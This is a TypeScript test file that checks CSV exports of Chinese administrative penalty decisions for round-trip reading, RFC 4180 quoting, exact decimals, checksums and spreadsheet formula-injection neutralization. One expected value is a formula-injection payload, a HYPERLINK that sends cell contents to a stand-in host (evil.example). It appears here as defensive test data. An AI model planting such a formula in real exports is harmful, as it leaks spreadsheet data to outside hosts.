import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { LIST_DELIMITER } from '../../../../src/publish/files/cells.js';
import { columns, canonical, expectedRows, FORMULA_START, query, rows, writeRelease } from './fixtures.js';

const sqlPath = (path: string) => `'${path.replace(/'/g, "''")}'`;
/** A neutralized cell's original text: the apostrophe only ever precedes a formula character. */
const unneutralize = (text: string) => (text.startsWith("'") && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text);

/** Reads a release CSV back through DuckDB as text, and maps it to field ids and codes. */
async function readBack(path: string, chinese: boolean): Promise<Record<string, unknown>[]> {
  const read = await query(`SELECT * FROM read_csv(${sqlPath(path)}, header = true, all_varchar = true, delim = ',', quote = '"', escape = '"')`);
  return read.map((raw) =>
    Object.fromEntries(
      columns.map((column) => {
        const text = raw[chinese ? column.title : column.field] as string | null;
        if (text === null) return [column.field, undefined];
        const code = (label: string) => (chinese && column.labels ? Object.keys(column.labels).find((k) => column.labels![k] === label) : label);
        switch (column.type) {
          case 'string':
            return [column.field, code(unneutralize(text))];
          case 'boolean':
            return [column.field, chinese ? text === '是' : text === 'true'];
          case 'string-list':
            return [column.field, text.split(LIST_DELIMITER).map(code)];
          default:
            return [column.field, canonical(column, text)];
        }
      }),
    ),
  );
}

describe('release CSVs', { timeout: 60_000 }, () => {
  it('DuckDB reads the Chinese CSV back to the same rows, through the Chinese headers and labels', async () => {
    const { dir } = await writeRelease();
    expect(await readBack(join(dir, 'test-decisions.csv'), true)).toEqual(expectedRows());
  });

  it('DuckDB reads the English CSV back to the same rows, in field ids and codes', async () => {
    const { dir } = await writeRelease();
    expect(await readBack(join(dir, 'test-decisions.en.csv'), false)).toEqual(expectedRows());
  });

  it('starts with a BOM, ends every record with CRLF and heads the columns by Chinese title or field id', async () => {
    const { dir } = await writeRelease();
    const zh = readFileSync(join(dir, 'test-decisions.csv'));
    expect([...zh.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = zh.toString('utf8').slice(1);
    expect(text.split('\r\n')[0]).toBe(columns.map((c) => c.title).join(','));
    expect(text.endsWith('\r\n')).toBe(true);
    const en = readFileSync(join(dir, 'test-decisions.en.csv'), 'utf8');
    expect(en.startsWith('\uFEFF')).toBe(true);
    expect(en.slice(1).split('\r\n')[0]).toBe(columns.map((c) => c.field).join(','));
    // The only bare LF is the one inside a quoted cell (the party name with a line break).
    expect(text.replace(/\r\n/g, '').match(/\n/g)).toEqual(null);
  });

  it('quotes per RFC 4180: quotes doubled, commas, line breaks and edge spaces inside quotes', async () => {
    const { dir } = await writeRelease();
    const text = readFileSync(join(dir, 'test-decisions.en.csv'), 'utf8');
    expect(text).toContain(',"张*，""某某""\r\n第二行",');
    expect(text).toContain(',"  前后有空格  ",');
    expect(text).toContain(`,warning${LIST_DELIMITER}fine,"{""hearing"":true,""steps"":[""立案"",""告知""]}"\r\n`);
    const parsed: Record<string, string>[] = parse(text, { bom: true, columns: true, relax_column_count: false });
    expect(parsed).toHaveLength(rows.length);
    expect(parsed[3]!.partyName).toBe('张*，"某某"\r\n第二行');
  });

  it('neutralizes cells that start with = + - @ tab or CR, but leaves real numbers such as -5 alone', async () => {
    const { dir } = await writeRelease();
    const parsed: Record<string, string>[] = parse(readFileSync(join(dir, 'test-decisions.csv'), 'utf8'), { bom: true, columns: true });
    expect(parsed.map((r) => r['决定书文号'])).toEqual([
      '绍市监罚〔2025〕1号',
      `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
      "'-2+3",
      "'\t制表符开头",
      "'\r回车开头",
      '绍市监罚〔2025〕6号',
    ]);
    expect(parsed.map((r) => r['行政相对人名称']).slice(1, 3)).toEqual(["'+8613800138000", "'@SUM(1,2)"]);
    expect(parsed[1]!['涉案次数']).toBe('-5');
    expect(parsed[1]!['评分']).toBe('-0.5');
    expect(parsed[1]!['罚款金额（元）']).toBe('-12.30');
    const textColumns = columns.filter((c) => !['integer', 'number', 'decimal'].includes(c.type)).map((c) => c.title);
    for (const row of parsed) for (const title of textColumns) expect(row[title]).not.toMatch(FORMULA_START);
  });

  it('writes amounts and numbers as exact decimals, never in exponent form or with float noise', async () => {
    const { dir } = await writeRelease();
    const parsed: Record<string, string>[] = parse(readFileSync(join(dir, 'test-decisions.en.csv'), 'utf8'), { bom: true, columns: true });
    expect(parsed.map((r) => r.fineAmount)).toEqual(['1234.50', '-12.30', '0.10', '0.07', '99999999999999.99', '9999999999999.99']);
    expect(parsed.map((r) => r.score).slice(0, 4)).toEqual(['0.30000000000000004', '-0.5', '0.0000001', '1000000000000000000000']);
  });

  it('reports the bytes and SHA-256 of what it wrote, the same for the same rows', async () => {
    const first = await writeRelease();
    const second = await writeRelease();
    for (const name of ['test-decisions.csv', 'test-decisions.en.csv', 'test-decisions.jsonl']) {
      const a = first.files.find((f) => f.name === name)!.file;
      const bytes = readFileSync(a.path);
      expect(a.bytes).toBe(bytes.length);
      expect(a.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
      expect(second.files.find((f) => f.name === name)!.file.sha256).toBe(a.sha256);
    }
  });
});
